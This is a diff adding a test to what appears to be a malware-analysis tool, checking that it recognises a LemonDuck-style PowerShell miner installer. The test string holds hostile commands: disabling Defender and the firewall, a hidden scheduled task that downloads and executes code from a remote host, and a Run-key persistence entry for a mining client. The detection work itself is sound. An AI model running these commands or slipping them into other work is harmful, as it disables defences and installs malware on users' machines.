@@ -243,3 +243,32 @@ describe('hostile input', () => {
     }
   });
 });
+
+describe('PowerShell', () => {
+  it('reads a LemonDuck-style installer: rival processes, Defender and firewall off, task and Run key commands', () => {
+    const ps = [
+      "$us = @('t.amynx.com')",
+      'Stop-Process -Name xmrig -Force',
+      "Get-Process | Where-Object { $_.Path -like '*kdevtmpfsi*' } | Stop-Process -Force",
+      'Set-MpPreference -DisableRealtimeMonitoring $true',
+      'netsh advfirewall set allprofiles state off',
+      "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://t.amynx.com/b.jsp')\"",
+      "Register-ScheduledTask -TaskName 'Updater' -Action $a",
+      "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name upd -Value 'C:\\ProgramData\\m.exe -o pool.supportxmr.com:443 -u someone@example.org'",
+    ].join('\r\n');
+    const a = analyseScript(ps, 'ps1', iv);
+    assert.ok(a.rivals.names.has('xmrig') && a.rivals.names.has('kdevtmpfsi'));
+    assert.deepEqual([...a.own.families.keys()], ['lemonduck']);
+    assert.ok(a.own.pools.has('pool.supportxmr.com:443'));
+    assert.ok(a.own.accounts.has('someone@example.org'));
+    assert.ok(a.own.urls.has('http://t.amynx.com/b.jsp'));
+    const kinds = a.roles.map((r) => `${r.role}:${r.how ?? ''}`);
+    for (const k of [
+      'evasion:antivirus',
+      'evasion:firewall',
+      'persistence:scheduled-task',
+      'persistence:run-key',
+    ])
+      assert.ok(kinds.includes(k), `${k} in ${kinds.join(' ')}`);
+  });
+});
